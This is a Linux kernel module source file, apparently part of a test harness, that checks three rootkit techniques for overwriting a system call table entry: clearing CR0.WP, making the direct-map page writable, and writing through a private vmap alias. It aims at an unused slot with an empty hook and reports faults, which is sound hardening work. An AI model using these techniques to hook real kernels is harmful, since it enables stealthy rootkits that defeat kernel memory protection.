// SPDX-License-Identifier: GPL-2.0-only
/*
 * The rootkit classic, an entry of the system call table, in three ways around its read-only mapping: with CR0.WP
 * cleared, through the direct map made writable, and through a writable mapping of our own.
 */
#include <asm/pgtable.h>
#include <asm/processor-flags.h>

#include "registers.h"

/* A number that no system call has, on any kernel so far: between the last old one and the common range from 424 on. */
#define SLOT 400

static void hook(void)
{
}

static bool aim(struct rf_report *r)
{
	return rf_aim(r, "sys_call_table", SLOT * sizeof(void *), sizeof(void *));
}

static unsigned long store(u8 *at)
{
	unsigned long faulted = 1;

	asm volatile(RF_STORE("movq %[v], (%[p])")
		     : [f] "+r"(faulted) : [v] "r"(hook), [p] "r"(at) : "memory", "cc");
	return faulted;
}

static void finish(struct rf_report *r, unsigned long faulted, bool stuck)
{
	if (stuck)
		rf_say(r, "stuck=yes");
	rf_judge(r, faulted);
}

static void set_entry(pte_t *pte, unsigned long entry, u8 *at)
{
	WRITE_ONCE(pte->pte, entry);
	asm volatile("invlpg (%0)" : : "r"(at) : "memory");
}

/* A bigger page's entry has its writable bit in the same place. */
static unsigned long store_through(pte_t *pte, u8 *at)
{
	unsigned long entry = READ_ONCE(pte->pte), faulted;

	set_entry(pte, entry | _PAGE_RW | _PAGE_DIRTY, at);
	faulted = store(at);
	set_entry(pte, entry, at);
	return faulted;
}

/* Past write_cr0(), which holds WP and complains. Where WP cannot be cleared, its page is made writable. */
void attack_syscall_table(struct rf_report *r)
{
	unsigned long faulted, cr0, kept;
	unsigned int level;
	bool stuck;
	pte_t *pte;

	if (!aim(r))
		return;
	pte = lookup_address((unsigned long)r->at, &level);
	if (!pte)
		return rf_skip(r, "the table is not mapped");
	rf_guard_begin();
	cr0 = rf_get_cr0();
	kept = rf_set_cr0(cr0 & ~X86_CR0_WP);
	if (kept) {
		faulted = store_through(pte, r->at);
	} else {
		faulted = store(r->at);
		rf_set_cr0(cr0);
	}
	stuck = rf_guard_end();
	rf_say(r, "wp=%s", kept ? "kept" : "cleared");
	finish(r, faulted, stuck);
}

void attack_direct_map(struct rf_report *r)
{
	unsigned long faulted, entry;
	unsigned int level;
	bool stuck;
	pte_t *pte;
	u8 *at;

	if (!aim(r))
		return;
	at = page_address(rf_page(r->at)) + offset_in_page(r->at);
	pte = lookup_address((unsigned long)at, &level);
	if (!pte)
		return rf_skip(r, "the direct map leaves the page out");
	rf_guard_begin();
	entry = READ_ONCE(pte->pte);
	faulted = store_through(pte, at);
	stuck = rf_guard_end();
	rf_say(r, "level=%u was=%s", level, entry & _PAGE_RW ? "writable" : "read-only");
	finish(r, faulted, stuck);
}

void attack_vmap_alias(struct rf_report *r)
{
	struct rf_alias alias;
	unsigned long faulted;
	bool stuck;

	if (!aim(r) || !rf_alias_map(r, &alias))
		return;
	rf_guard_begin();
	faulted = store(alias.at);
	stuck = rf_guard_end();
	finish(r, faulted, stuck);
	rf_alias_unmap(&alias);
}
